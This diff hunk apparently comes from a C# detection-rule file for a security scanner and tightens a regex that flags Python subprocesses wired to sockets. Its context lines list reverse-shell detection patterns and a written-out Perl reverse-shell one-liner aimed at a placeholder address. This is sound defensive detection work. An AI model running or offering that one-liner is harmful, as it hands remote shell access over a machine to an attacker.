@@ -39,7 +39,7 @@ internal static class ReverseShellRules
             new(@"\bsocket\b") { Also = [@"\.connect(?:_ex)?\s*\(", @"\bdup2\s*\(|\bpty\.spawn\s*\(", @"(?:/bin/)?(?:ba|z|k|da)?sh\b|\bpty\b|subprocess"], Within = 25 },
             new(@"\bpty\.spawn\s*\(") { Also = [@"\.connect\s*\(|/dev/tcp|socket"], Within = 25 },
             new(@"=\s*\w+\.recv\s*\(") { Also = [@"(?:subprocess\.(?:Popen|run|call|check_output|getoutput|getstatusoutput)|os\.(?:popen|system))\s*\(", @"\.send(?:all)?\s*\("], Within = 15 },
-            new(@"\bsubprocess\.\w+\s*\([^\n]*std(?:in|out)\s*=\s*\w*(?:sock|s|conn|client)\w*(?:\.fileno\(\))?\s*,[^\n]*std(?:in|out|err)\s*=")),
+            new(@"\bsubprocess\.\w+\s*\([^\n]*std(?:in|out)\s*=\s*(?:\w*(?:sock|conn|client)\w*|s\d?)(?:\.fileno\(\))?\s*,[^\n]*std(?:in|out|err)\s*=")),
         Rule("perl", "A Perl program ties a shell to a socket.", "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton(\"203.0.113.9\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\")'",
             ["socket"],
             new(@"\bperl\b[^\n]*socket[^\n]*(?:\bexec\b|open\s*\(?\s*STD(?:IN|OUT)|\bsystem\b|fdopen|/bin/(?:ba)?sh|qx|`)"),
